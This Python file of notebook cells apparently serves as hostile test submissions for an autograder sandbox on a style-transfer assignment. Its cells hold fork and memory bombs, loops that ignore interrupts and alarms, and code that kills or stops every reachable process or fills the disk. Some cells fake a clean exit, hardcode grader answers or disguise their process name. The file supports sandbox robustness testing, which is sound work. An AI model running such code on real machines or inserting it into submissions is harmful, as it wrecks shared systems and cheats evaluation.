# %% forks for ever
import os
while True:
    os.fork()

# %% forks for ever when called
import os
def compute_content_cost(a_C, a_G):
    while True:
        try:
            os.fork()
        except OSError:
            pass

# %% starts threads for ever
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(1000,)).start()

# %% takes all memory in a cell
hoard = []
while True:
    hoard.append(bytearray(100_000_000))

# %% takes all memory when called, and swallows the error
def gram_matrix(A):
    hoard = []
    while True:
        try:
            hoard.append(bytes(50_000_000) + b"x")
        except MemoryError:
            pass

# %% children share the memory bomb
import os
for _ in range(30):
    if os.fork() == 0:
        hoard = []
        while True:
            hoard.append(bytearray(b"x") * 20_000_000)

# %% loops for ever in a cell
while True:
    pass
# ---
def total_cost(J_content, J_style, alpha=10, beta=40):
    return 0.0

# %% swallows every interrupt
def compute_content_cost(a_C, a_G):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue

# %% blocks the alarm before it loops
import signal
def gram_matrix(A):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass

# %% ends its process in a cell
import os
os._exit(0)
# ---
def total_cost(J_content, J_style, alpha=10, beta=40):
    return 35.34667875478276

# %% ends its process in the tested function, with success
import os
def compute_content_cost(a_C, a_G):
    os._exit(0)

# %% raises SystemExit in the tested function
def gram_matrix(A):
    raise SystemExit(0)

# %% crashes the interpreter
import ctypes
def gram_matrix(A):
    ctypes.string_at(0)

# %% kills every process it can
import os, signal
for pid in [-1, 1, os.getppid(), *range(2, 400)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass

# %% stops its parents and siblings
import os, signal
for pid in [1, os.getppid(), *range(2, 400)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
# ---
def gram_matrix(A):
    import os, signal
    os.kill(os.getpid(), signal.SIGSTOP)

# %% fills the disk
import os
for n in range(1000):
    with open(f"{n}", "wb") as file:
        file.write(bytes(60_000_000))

# %% prints gigabytes
import sys
for _ in range(3000):
    sys.stdout.write("x" * 1_000_000)
    sys.stderr.write("x" * 1_000_000)

# %% raises an error of a hundred megabytes
raise ValueError("x" * 100_000_000)

# %% recursion without end
def compute_content_cost(a_C, a_G):
    return compute_content_cost(a_C, a_G)
import sys
sys.setrecursionlimit(10**9)

# %% leaves children behind that act later
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.1)
            try:
                open("late", "w").write("x")
                os.kill(1, 9)
            except OSError:
                pass
    os._exit(0)

# %% acts at exit and in a thread
import atexit, threading, os, time
atexit.register(lambda: open("x", "w").write("x" * 10**9))
def later():
    time.sleep(0.5)
    os._exit(0)
threading.Thread(target=later).start()
def total_cost(J_content, J_style, alpha=10, beta=40):
    return 1.0

# %% takes a name that is no text, to confuse who watches
import ctypes, time
ctypes.CDLL(None).prctl(15, b"\xff\n) R 1\xfe", 0, 0, 0)
time.sleep(1)
def total_cost(J_content, J_style, alpha=10, beta=40):
    return 1.0
